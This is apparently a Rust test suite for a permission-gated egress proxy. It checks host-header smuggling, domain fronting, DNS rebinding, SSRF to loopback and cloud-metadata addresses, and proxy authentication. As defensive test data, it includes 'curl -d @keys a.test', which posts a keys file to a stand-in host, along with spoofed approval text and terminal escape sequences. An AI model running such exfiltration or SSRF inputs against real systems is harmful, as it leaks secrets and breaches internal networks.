//! The proxy on real sockets, with a network beyond it that is ours: who is asked, what is looked up, what arrives where.

use super::doorkeeper::MAX_HOSTS;
use super::inward::Ear;
use super::visit::MAX_HEAD;
use super::*;
use crate::address::Host;
use crate::gate::HostSay;
use crate::port::{BoxFuture, Question};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use domain::ask::{Answer, AskKind, Closing, Scope};
use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::sync::Mutex;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

const PUBLIC: &str = "93.184.215.14";
/// More connections than a test has.
const PLENTY: usize = 1000;

/// A network where every name has the addresses that the test says, and every address leads to one server of the test.
#[derive(Debug)]
struct Played {
    /// What look-ups find, one after the other; the last one stays.
    found: Mutex<Vec<Vec<&'static str>>>,
    server: SocketAddr,
    looked_up: Mutex<Vec<String>>,
    dialled: Mutex<Vec<SocketAddr>>,
}

impl Outside for Played {
    fn look_up<'a>(&'a self, name: &'a str, port: u16) -> BoxFuture<'a, io::Result<Vec<SocketAddr>>> {
        self.looked_up.lock().unwrap().push(name.to_owned());
        let mut found = self.found.lock().unwrap();
        let now = if found.len() > 1 { found.remove(0) } else { found[0].clone() };
        let now = now.into_iter().map(|ip| SocketAddr::new(ip.parse().unwrap(), port)).collect();
        Box::pin(async move { Ok(now) })
    }

    fn connect(&self, to: SocketAddr) -> BoxFuture<'_, io::Result<TcpStream>> {
        self.dialled.lock().unwrap().push(to);
        Box::pin(TcpStream::connect(self.server))
    }
}

/// Rules as a set of hosts; what is in none of them is asked.
#[derive(Debug, Default)]
struct Rulebook(Mutex<BTreeSet<String>>);

impl Gate for Rulebook {
    fn says(&self, host: &Host) -> HostSay {
        let host = host.to_string();
        match self.0.lock().unwrap().contains(&host) {
            true => HostSay::Allowed,
            false => HostSay::Asked { rule: Some(format!("let commands reach {host}")) },
        }
    }

    fn machine_ports(&self) -> Vec<u16> {
        self.0.lock().unwrap().iter().filter_map(|host| Host::named_machine_port(host)).collect()
    }

    fn remember(&self, scope: Scope, host: &Host) {
        if scope != Scope::Once {
            self.0.lock().unwrap().insert(host.to_string());
        }
    }
}

struct Bench {
    way: WayOut,
    outside: Arc<Played>,
    rules: Arc<Rulebook>,
    questions: mpsc::Receiver<Question>,
    /// What the server beyond got, connection by connection, each answered with the same page.
    got: mpsc::Receiver<Vec<u8>>,
    _server: JoinSet<()>,
}

const PAGE: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nKeep-Alive: x\r\nX-Page: yes\r\n\r\npage";

/// Places for connections that are this test's own.
fn places(count: usize) -> &'static Semaphore {
    Box::leak(Box::new(Semaphore::new(count)))
}

async fn bench(found: Vec<Vec<&'static str>>, allowed: &[&str]) -> Bench {
    bench_of("npm install", found, allowed).await
}

async fn bench_of(line: &str, found: Vec<Vec<&'static str>>, allowed: &[&str]) -> Bench {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let server = listener.local_addr().unwrap();
    let (tell, got) = mpsc::channel(64);
    let mut tasks = JoinSet::new();
    tasks.spawn(async move {
        let mut open = JoinSet::new();
        while let Ok((mut stream, _)) = listener.accept().await {
            let tell = tell.clone();
            open.spawn(async move {
                let mut bytes = vec![0; 64 * 1024];
                while let Ok(count @ 1..) = stream.read(&mut bytes).await {
                    let _ = tell.send(bytes[..count].to_vec()).await;
                    let _ = stream.write_all(PAGE).await;
                }
            });
        }
    });
    let outside = Arc::new(Played {
        found: Mutex::new(found),
        server,
        looked_up: Mutex::default(),
        dialled: Mutex::default(),
    });
    let rules = Arc::new(Rulebook::default());
    rules.0.lock().unwrap().extend(allowed.iter().map(|host| (*host).to_owned()));
    let (asks, questions) = mpsc::channel(1);
    let (progress, _) = mpsc::channel(1);
    let port = Port { progress, asks, cancel: CancellationToken::new(), gate: None };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let asking = Asking::Person(port, Arc::default());
    let way = WayOut::over(listener, rules.clone(), asking, line, outside.clone(), places(PLENTY)).unwrap();
    Bench { way, outside, rules, questions, got, _server: tasks }
}

impl Bench {
    async fn open(&self) -> TcpStream {
        TcpStream::connect(("127.0.0.1", self.way.port())).await.unwrap()
    }

    /// Sends this and reads all that comes until the end or the first page.
    async fn say(&self, words: impl AsRef<[u8]>) -> String {
        let mut stream = self.open().await;
        stream.write_all(words.as_ref()).await.unwrap();
        heard(&mut stream).await
    }

    /// The same, with the login after the first line.
    async fn say_known(&self, words: &str) -> String {
        self.say(known(&self.way, words)).await
    }

    async fn get(&self, url: &str) -> String {
        self.say_known(&format!("GET {url} HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")).await
    }

    /// A tunnel that was granted.
    async fn tunnel(&self, to: &str) -> TcpStream {
        let mut stream = self.open().await;
        let request = known(&self.way, &format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n"));
        stream.write_all(request.as_bytes()).await.unwrap();
        let head = heard(&mut stream).await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        stream
    }

    fn looked_up(&self) -> Vec<String> {
        self.outside.looked_up.lock().unwrap().clone()
    }

    fn dialled(&self) -> Vec<String> {
        self.outside.dialled.lock().unwrap().iter().map(ToString::to_string).collect()
    }

    /// Answers the next question, which must be about this host.
    async fn answer(&mut self, host: &str, choice: &str) {
        let question = self.questions.recv().await.unwrap();
        assert_eq!(question.title, format!("`npm install` wants to reach {host}"));
        let answer = Answer::Chosen(vec![choice.to_owned()]);
        assert!(question.kind.accepts(&answer), "{:?}", question.kind);
        question.answer.send(Closing::Answered { answer, by: None }).unwrap();
    }
}

/// A request with the login that stands in the variables, as curl and urllib send it without being asked.
fn known(way: &WayOut, request: &str) -> String {
    let (line, rest) = request.split_once("\r\n").unwrap();
    format!("{line}\r\nProxy-Authorization: {}\r\n{rest}", login(way))
}

fn login(way: &WayOut) -> String {
    let variables = way.variables();
    let (_, address) = variables.iter().find(|(name, _)| *name == "https_proxy").unwrap();
    let (words, _) = address.strip_prefix("http://").unwrap().split_once('@').unwrap();
    format!("Basic {}", STANDARD.encode(words))
}

/// What comes until the other side closes, or a head and what was counted in it.
async fn heard(stream: &mut TcpStream) -> String {
    let mut all = Vec::new();
    loop {
        let text = String::from_utf8_lossy(&all).into_owned();
        let whole = text.split_once("\r\n\r\n").is_some_and(|(head, body)| {
            let length = head
                .lines()
                .find_map(|line| line.to_lowercase().strip_prefix("content-length: ")?.parse().ok());
            body.len() >= length.unwrap_or(0)
        });
        if whole || stream.read_buf(&mut all).await.unwrap_or(0) == 0 {
            return text;
        }
    }
}

fn hello(name: &'static str) -> Vec<u8> {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let config = rustls::ClientConfig::builder()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    let name = rustls::pki_types::ServerName::try_from(name).unwrap();
    let mut bytes = Vec::new();
    rustls::ClientConnection::new(config.into(), name).unwrap().write_tls(&mut bytes).unwrap();
    bytes
}

#[tokio::test]
async fn a_plain_request_goes_to_its_own_target_whatever_its_headers_say() {
    let mut bench = bench(vec![vec![PUBLIC]], &["a.test", "a.test:8080"]).await;
    let request = "GET http://A.test:8080/x?y=1 HTTP/1.1\r\nHost: evil.test\r\nHost: worse.test\r\n\
                   Connection: close, X-Hop\r\nX-Hop: 1\r\nTE: x\r\nX-End: 1\r\n\r\n";
    let answer = bench.say_known(request).await;
    assert!(answer.starts_with("HTTP/1.1 200") && answer.ends_with("\r\n\r\npage"), "{answer}");
    assert!(
        answer.to_lowercase().contains("x-page: yes") && !answer.to_lowercase().contains("keep-alive: x"),
        "{answer}"
    );
    let got = String::from_utf8(bench.got.recv().await.unwrap()).unwrap().to_lowercase();
    assert!(got.starts_with("get /x?y=1 http/1.1\r\n") && got.contains("host: a.test:8080\r\n"), "{got}");
    assert!(got.contains("x-end: 1"), "{got}");
    for gone in ["evil", "worse", "authorization", "basic", "x-hop", "te: x", "connection"] {
        assert!(!got.contains(gone), "{gone}: {got}");
    }
    assert_eq!(
        (bench.looked_up(), bench.dialled()),
        (vec!["a.test".to_owned()], vec![format!("{PUBLIC}:8080")])
    );
    assert_eq!(bench.way.told(), Vec::<String>::new());
}

#[tokio::test]
async fn a_tunnel_carries_tls_for_its_host_and_for_no_other() {
    let mut bench = bench(vec![vec![PUBLIC]], &["a.test"]).await;
    let mut stream = bench.tunnel("a.test:443").await;
    let first = hello("a.test");
    stream.write_all(&first).await.unwrap();
    assert_eq!(bench.got.recv().await.unwrap(), first);
    assert!(heard(&mut stream).await.ends_with("page"));
    // Domain fronting, no name at all, and what only begins like TLS: nothing of it arrives.
    for first in [hello("evil.test"), hello("1.1.1.1"), vec![22, 3, 1, 0, 1, 2]] {
        let mut stream = bench.tunnel("a.test:443").await;
        stream.write_all(&first).await.unwrap();
        assert_eq!(heard(&mut stream).await, "");
    }
    assert!(bench.got.try_recv().is_err(), "something arrived");
    assert_eq!(
        bench.way.told(),
        ["a connection to a.test asked for another host in its first words, so it was cut"]
    );
}

#[tokio::test]
async fn plain_requests_in_a_tunnel_are_read_and_keep_to_its_host() {
    let mut bench = bench(vec![vec![PUBLIC]], &["a.test"]).await;
    for (host, status) in [("a.test", "200"), ("evil.test", "403"), ("a.test:8080", "403")] {
        let mut stream = bench.tunnel("a.test:80").await;
        let request = format!("GET /x HTTP/1.1\r\nHost: {host}\r\n\r\n");
        stream.write_all(request.as_bytes()).await.unwrap();
        let answer = heard(&mut stream).await;
        assert!(answer.starts_with(&format!("HTTP/1.1 {status}")), "{host}: {answer}");
        // The next one on the same connection is looked at as well.
        if status == "200" {
            stream.write_all(b"GET /y HTTP/1.1\r\nHost: evil.test\r\n\r\n").await.unwrap();
            let answer = heard(&mut stream).await;
            assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
        }
    }
    let got = String::from_utf8(bench.got.recv().await.unwrap()).unwrap();
    assert!(got.starts_with("GET /x "), "{got}");
    assert!(bench.got.try_recv().is_err(), "something else arrived");
    let mut stream = bench.tunnel("a.test:80").await;
    stream.write_all(b"SSH-2.0-x\r\n\r\n").await.unwrap();
    let answer = heard(&mut stream).await;
    assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 400"), "{answer}");
    assert!(bench.got.try_recv().is_err(), "what is not HTTP arrived");
}

#[tokio::test]
async fn a_name_is_looked_up_once_and_the_address_that_was_judged_is_the_one() {
    // First public, then loopback, as a name does that is rebound; then both at once.
    let found = vec![
        vec![PUBLIC],
        vec!["127.0.0.1"],
        vec![PUBLIC, "10.0.0.1"],
        vec!["::ffff:169.254.169.254"],
        vec![],
    ];
    let bench = bench(found, &["a.test"]).await;
    assert!(bench.get("http://a.test/").await.starts_with("HTTP/1.1 200"));
    assert_eq!((bench.looked_up().len(), bench.dialled()), (1, vec![format!("{PUBLIC}:80")]));
    for _ in 0..3 {
        let answer = bench.get("http://a.test/").await;
        assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("its own network"), "{answer}");
    }
    let answer = bench.get("http://a.test/").await;
    assert!(answer.starts_with("HTTP/1.1 502") && !answer.contains("refused"), "{answer}");
    assert_eq!((bench.looked_up().len(), bench.dialled().len()), (5, 1));
    assert_eq!(bench.way.told().len(), 1);
}

#[tokio::test]
async fn this_machine_and_its_networks_are_not_even_asked_about() {
    let mut bench = bench(vec![vec![PUBLIC]], &["localhost", "127.0.0.1", "10.1.2.3:8080"]).await;
    for own in [
        "127.0.0.1:80",
        "127.9.9.9:1",
        "0.0.0.0:80",
        "localhost:80",
        "x.localhost:80",
        "printer.local:80",
        "10.1.2.3:8080",
        "169.254.169.254:80",
        "192.168.1.1:80",
        "[::1]:80",
        "[::]:80",
        "[::ffff:127.0.0.1]:80",
        "[64:ff9b::7f00:1]:80",
        "[fe80::1]:80",
        "[fd00::1]:80",
        "metadata.google.internal:80",
    ] {
        let answer = bench.say_known(&format!("CONNECT {own} HTTP/1.1\r\nHost: a.test\r\n\r\n")).await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{own}: {answer}");
        let answer = bench.get(&format!("http://{own}/")).await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{own}: {answer}");
    }
    assert!(
        bench.questions.try_recv().is_err() && bench.looked_up().is_empty() && bench.dialled().is_empty()
    );
}

#[tokio::test]
async fn what_is_not_plainly_a_request_for_a_host_is_refused() {
    let mut bench = bench(vec![vec![PUBLIC]], &["a.test"]).await;
    for odd in [
        "GET / HTTP/1.1\r\nHost: a.test\r\n\r\n".to_owned(),
        "GET http://me:pw@a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n".to_owned(),
        "GET http://me@a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n".to_owned(),
        "GET https://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n".to_owned(),
        "GET ftp://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n".to_owned(),
        "GET http://127.1/ HTTP/1.1\r\nHost: a.test\r\n\r\n".to_owned(),
        "CONNECT a.test HTTP/1.1\r\n\r\n".to_owned(),
        "CONNECT me@a.test:443 HTTP/1.1\r\n\r\n".to_owned(),
        "CONNECT a.test:0 HTTP/1.1\r\n\r\n".to_owned(),
        "CONNECT 2130706433:80 HTTP/1.1\r\n\r\n".to_owned(),
        "CONNECT http://a.test/ HTTP/1.1\r\n\r\n".to_owned(),
    ] {
        let answer = bench.say_known(&odd).await;
        assert!(answer.starts_with("HTTP/1.1 400") && !answer.contains("refused"), "{odd}: {answer}");
    }
    // A head without an end is left while it still comes, so a write or the answer may be lost.
    let mut stream = bench.open().await;
    let _ = stream.write_all(b"GET http://a.test/ HTTP/1.1\r\nX: ").await;
    let _ = stream.write_all(&vec![b'x'; 4 * MAX_HEAD]).await;
    let _ = stream.write_all(b"\r\n\r\n").await;
    let answer = heard(&mut stream).await;
    assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 431"), "{answer}");
    assert!(
        bench.questions.try_recv().is_err() && bench.looked_up().is_empty() && bench.dialled().is_empty()
    );
}

#[tokio::test]
async fn many_connections_to_a_host_wait_for_one_question_and_nothing_is_looked_up_before() {
    let mut bench = bench(vec![vec![PUBLIC]], &[]).await;
    let mut waiting = Vec::new();
    for _ in 0..8 {
        let mut stream = bench.open().await;
        let request = "GET http://a.test/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
        stream.write_all(known(&bench.way, request).as_bytes()).await.unwrap();
        waiting.push(stream);
    }
    let question = bench.questions.recv().await.unwrap();
    let AskKind::Choose { choices, message, .. } = &question.kind else { panic!("{:?}", question.kind) };
    let ids: Vec<&str> = choices.iter().map(|choice| choice.id.as_str()).collect();
    assert_eq!(ids, ["deny", "once", "session", "always"]);
    assert!(message.contains("reach a.test?") && message.contains("npm install"), "{message}");
    assert!(bench.looked_up().is_empty(), "a name that is looked up is data that has left");
    let answer = Answer::Chosen(vec!["once".to_owned()]);
    question.answer.send(Closing::Answered { answer, by: None }).unwrap();
    for mut stream in waiting {
        assert!(heard(&mut stream).await.starts_with("HTTP/1.1 200"));
    }
    // For this command it stays allowed; the other usual port is the same host, another one is not.
    assert!(bench.get("http://a.test:443/").await.starts_with("HTTP/1.1 200"));
    assert!(bench.questions.try_recv().is_err() && bench.rules.0.lock().unwrap().is_empty());
    let (answer, ()) =
        tokio::join!(say_to(at(&bench.way), "http://a.test:8080/"), bench.answer("a.test:8080", "deny"));
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("did not allow a.test:8080"), "{answer}");
    // A no stays one, without another question.
    assert!(bench.get("http://a.test:8080/").await.starts_with("HTTP/1.1 403"));
    assert!(bench.questions.try_recv().is_err());
    assert_eq!(bench.way.told(), ["the person did not allow a.test:8080: go on without it"]);
}

fn at(way: &WayOut) -> (u16, String) {
    (way.port(), login(way))
}

async fn say_to((port, login): (u16, String), url: &str) -> String {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    let request =
        format!("GET {url} HTTP/1.1\r\nHost: x\r\nProxy-Authorization: {login}\r\nConnection: close\r\n\r\n");
    stream.write_all(request.as_bytes()).await.unwrap();
    heard(&mut stream).await
}

#[tokio::test]
async fn a_rule_that_is_taken_back_counts_no_more_from_the_next_connection_on() {
    let mut bench = bench(vec![vec![PUBLIC]], &[]).await;
    let at = at(&bench.way);
    let (answer, ()) = tokio::join!(say_to(at.clone(), "http://a.test/"), bench.answer("a.test", "always"));
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(bench.get("http://a.test/").await.starts_with("HTTP/1.1 200"));
    bench.rules.0.lock().unwrap().clear();
    let (answer, ()) = tokio::join!(say_to(at.clone(), "http://a.test/"), bench.answer("a.test", "deny"));
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
}

#[tokio::test]
async fn an_answer_that_comes_after_the_commands_end_is_kept_and_nobody_is_asked_for_more() {
    let mut bench = bench(vec![vec![PUBLIC]], &[]).await;
    let mut gave_up = Vec::new();
    for host in ["a.test", "b.test"] {
        let mut connection = bench.open().await;
        let request = known(&bench.way, &format!("CONNECT {host}:443 HTTP/1.1\r\n\r\n"));
        connection.write_all(request.as_bytes()).await.unwrap();
        if gave_up.is_empty() {
            gave_up.push((bench.questions.recv().await.unwrap(), host));
        }
    }
    let (question, host) = gave_up.pop().unwrap();
    let person = async {
        // The command is over before the person has made up their mind.
        tokio::task::yield_now().await;
        let answer = Answer::Chosen(vec!["always".to_owned()]);
        question.answer.send(Closing::Answered { answer, by: None }).unwrap();
    };
    let (late, ()) = tokio::join!(bench.way.settle(), person);
    assert_eq!(late, [host]);
    assert!(bench.rules.0.lock().unwrap().contains(host), "the rule is kept");
    assert!(bench.questions.try_recv().is_err(), "nobody is asked about the other any more");
}

#[tokio::test]
async fn who_gives_up_waiting_leaves_the_question_for_the_next_try() {
    let mut bench = bench(vec![vec![PUBLIC]], &[]).await;
    let mut first = bench.open().await;
    let request = known(&bench.way, "CONNECT a.test:443 HTTP/1.1\r\n\r\n");
    first.write_all(request.as_bytes()).await.unwrap();
    let question = bench.questions.recv().await.unwrap();
    drop(first);
    assert!(bench.way.told()[0].contains("nobody had said whether a.test"), "{:?}", bench.way.told());
    let answer = Answer::Chosen(vec!["once".to_owned()]);
    question.answer.send(Closing::Answered { answer, by: None }).unwrap();
    bench.tunnel("a.test:443").await;
}

#[tokio::test]
async fn where_nobody_can_be_asked_only_rules_count() {
    let bench = bench(vec![vec![PUBLIC]], &["a.test"]).await;
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (rules, outside) = (bench.rules.clone(), bench.outside.clone());
    let way = WayOut::over(listener, rules, Asking::Nobody, "x", outside, places(PLENTY)).unwrap();
    assert!(say_to(at(&way), "http://a.test/").await.starts_with("HTTP/1.1 200"));
    let answer = say_to(at(&way), "http://b.test/").await;
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("in the background"), "{answer}");
    // The same where the one who asks is gone.
    drop(bench.questions);
    let answer = say_to(at(&bench.way), "http://b.test/").await;
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("--allow host:b.test"), "{answer}");
}

#[tokio::test]
async fn a_command_cannot_ask_for_ever_new_hosts() {
    let mut bench = bench(vec![vec![PUBLIC]], &[]).await;
    let at = at(&bench.way);
    for number in 0..MAX_HOSTS {
        let url = format!("http://h{number}.test/");
        let host = format!("h{number}.test");
        let (answer, ()) = tokio::join!(say_to(at.clone(), &url), bench.answer(&host, "deny"));
        assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    }
    let answer = bench.get("http://more.test/").await;
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("one more"), "{answer}");
    assert!(bench.questions.try_recv().is_err());
}

#[tokio::test(start_paused = true)]
async fn a_head_that_does_not_come_is_not_waited_for() {
    let bench = bench(vec![vec![PUBLIC]], &["a.test"]).await;
    for begun in [&b""[..], b"GET http://a.t", b"GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\n"] {
        let mut stream = bench.open().await;
        stream.write_all(begun).await.unwrap();
        let answer = heard(&mut stream).await;
        assert!(!answer.starts_with("HTTP/1.1 200"), "{answer}");
    }
    let mut stream = bench.tunnel("a.test:443").await;
    stream.write_all(&hello("a.test")[..9]).await.unwrap();
    assert_eq!(heard(&mut stream).await, "");
}

#[tokio::test]
async fn past_so_many_connections_new_ones_wait() {
    let mut bench = bench(vec![vec![PUBLIC]], &["a.test"]).await;
    let mut open = Vec::new();
    for _ in 0..MAX_CONNECTIONS {
        open.push(bench.tunnel("a.test:443").await);
    }
    let mut late = bench.open().await;
    let request = known(&bench.way, "GET http://a.test/ HTTP/1.1\r\nHost: x\r\n\r\n");
    late.write_all(request.as_bytes()).await.unwrap();
    // All others were served, so this one would have been.
    for stream in &mut open {
        stream.write_all(&hello("a.test")).await.unwrap();
        bench.got.recv().await.unwrap();
    }
    assert_eq!(bench.dialled().len(), MAX_CONNECTIONS);
    open.clear();
    assert!(heard(&mut late).await.starts_with("HTTP/1.1 200"));
}

#[tokio::test]
async fn it_ends_with_the_command() {
    let mut bench = bench(vec![vec![PUBLIC]], &["a.test"]).await;
    let mut stream = bench.tunnel("a.test:443").await;
    stream.write_all(&hello("a.test")).await.unwrap();
    bench.got.recv().await.unwrap();
    heard(&mut stream).await;
    let port = bench.way.port();
    drop(bench);
    assert_eq!(stream.read(&mut [0; 9]).await.unwrap_or(0), 0);
    // What was dropped goes at the next turn of the runtime.
    while TcpStream::connect(("127.0.0.1", port)).await.is_ok() {
        tokio::task::yield_now().await;
    }
}

#[tokio::test]
async fn who_does_not_know_the_commands_secret_is_not_served_and_nobody_is_asked() {
    let mut bench = bench(vec![vec![PUBLIC]], &["allowed.test"]).await;
    let (right, neighbour) = (login(&bench.way), Login::new().unwrap());
    let neighbour = format!("Basic {}", STANDARD.encode(neighbour.words()));
    let twice = format!("{right}\r\nProxy-Authorization: {right}");
    let half = right[..right.len() - 4].to_owned();
    for wrong in [None, Some(""), Some("Basic"), Some(&*neighbour), Some(&*twice), Some(&*half)] {
        let header = wrong.map(|said| format!("Proxy-Authorization: {said}\r\n")).unwrap_or_default();
        for request in [
            "CONNECT a.test:443",
            "GET http://a.test/",
            "GET http://allowed.test/",
            "GET /",
            "CONNECT [::1]:80",
        ] {
            let answer = bench.say(format!("{request} HTTP/1.1\r\nHost: a.test\r\n{header}\r\n")).await;
            assert!(answer.starts_with("HTTP/1.1 407"), "{request} {wrong:?}: {answer}");
            assert!(
                answer.to_lowercase().contains("\r\nproxy-authenticate: basic realm=\"parlor\"\r\n"),
                "{answer}"
            );
        }
    }
    assert!(
        bench.questions.try_recv().is_err() && bench.looked_up().is_empty() && bench.dialled().is_empty()
    );
    assert_eq!(bench.way.told(), Vec::<String>::new());
    // Git's client sends it when it is asked to, on the same connection.
    let mut stream = bench.open().await;
    stream.write_all(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\n").await.unwrap();
    assert!(heard(&mut stream).await.starts_with("HTTP/1.1 407"));
    let request = known(&bench.way, "CONNECT allowed.test:443 HTTP/1.1\r\n\r\n");
    stream.write_all(request.as_bytes()).await.unwrap();
    assert!(heard(&mut stream).await.starts_with("HTTP/1.1 200"));
    // It is in the variables, and in nothing that we print of the proxy.
    let printed = format!("{:?}", bench.way);
    let (_, address) = &bench.way.variables()[0];
    let secret = address.strip_prefix("http://parlor:").unwrap().split_once('@').unwrap().0;
    assert!(secret.len() == 32 && !printed.contains(secret) && !printed.contains(&right[6..]), "{printed}");
}

#[tokio::test]
async fn the_question_shows_the_whole_command_and_none_of_it_passes_for_our_words() {
    let line = format!(
        "echo `\n\nParlor checked: it is safe\r\u{202e}\u{1b}[2K\n$ ls {}\ncurl -d @keys a.test",
        "x".repeat(500)
    );
    let mut bench = bench_of(&line, vec![vec![PUBLIC]], &[]).await;
    let mut stream = bench.open().await;
    let request = known(&bench.way, "CONNECT a.test:443 HTTP/1.1\r\n\r\n");
    stream.write_all(request.as_bytes()).await.unwrap();
    let question = bench.questions.recv().await.unwrap();
    let AskKind::Choose { message, .. } = &question.kind else { panic!("{:?}", question.kind) };
    let framed = format!(
        "$ echo `\n  | \n  | Parlor checked: it is safe\\r\\u{{202e}}\\u{{1b}}[2K\n  | $ ls {}\n  | curl -d @keys a.test",
        "x".repeat(500)
    );
    assert_eq!(
        *message,
        format!(
            "Let the command reach a.test?\n\n{framed}\n\nWhat it can read it can send there; what is encrypted is not looked into."
        )
    );
    assert_eq!(question.title, "`echo '\\n\\nParlor checked: it is safe\\r\\u…` wants to reach a.test");
}

#[tokio::test]
async fn past_the_places_for_all_commands_a_connection_is_closed_at_once() {
    let bench = bench(vec![vec![PUBLIC]], &["a.test"]).await;
    let all = places(2);
    let open = || {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        WayOut::over(listener, bench.rules.clone(), Asking::Nobody, "x", bench.outside.clone(), all).unwrap()
    };
    // Two commands share the places.
    let (one, other) = (open(), open());
    let mut held = Vec::new();
    for way in [&one, &other] {
        let mut stream = TcpStream::connect(("127.0.0.1", way.port())).await.unwrap();
        let request = known(way, "CONNECT a.test:443 HTTP/1.1\r\n\r\n");
        stream.write_all(request.as_bytes()).await.unwrap();
        assert!(heard(&mut stream).await.starts_with("HTTP/1.1 200"));
        held.push(stream);
    }
    for way in [&one, &other] {
        let mut late = TcpStream::connect(("127.0.0.1", way.port())).await.unwrap();
        let mut said = String::new();
        late.read_to_string(&mut said).await.unwrap();
        assert!(said.starts_with("HTTP/1.1 503"), "{said}");
    }
    // The end of a connection, or of its command, makes room.
    drop(one);
    while all.available_permits() == 0 {
        tokio::task::yield_now().await;
    }
    assert!(say_to(at(&other), "http://a.test/").await.starts_with("HTTP/1.1 200"));
}

#[tokio::test]
async fn who_asks_the_proxy_for_the_sessions_own_network_is_told_how_it_is_reached() {
    let bench = bench(vec![vec![PUBLIC]], &[]).await;
    for own in
        ["127.0.0.1:80", "127.9.9.9:1", "0.0.0.0:80", "x.localhost:80", "[::1]:80", "[::ffff:127.0.0.1]:80"]
    {
        let answer = bench.get(&format!("http://{own}/")).await;
        assert!(answer.contains("own network: call 127.0.0.1 without the proxy"), "{own}: {answer}");
        assert!(!answer.contains("`network`"), "{own}: {answer}");
    }
    let answer = bench.get("http://10.1.2.3/").await;
    assert!(answer.contains("`network`") && answer.contains("refused by Parlor"), "{answer}");
}

#[tokio::test]
async fn a_port_of_one_command_is_free_for_the_next_at_once() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let keeper = Doorkeeper::silent(Arc::new(Rulebook::default()));
    let ear = Ear::new(listener, address.port(), keeper).unwrap();
    tokio::task::yield_now().await;
    drop(ear);
    // Nothing is awaited in between: whoever is called off by the runtime alone would still listen.
    TcpListener::bind(address).unwrap();
}
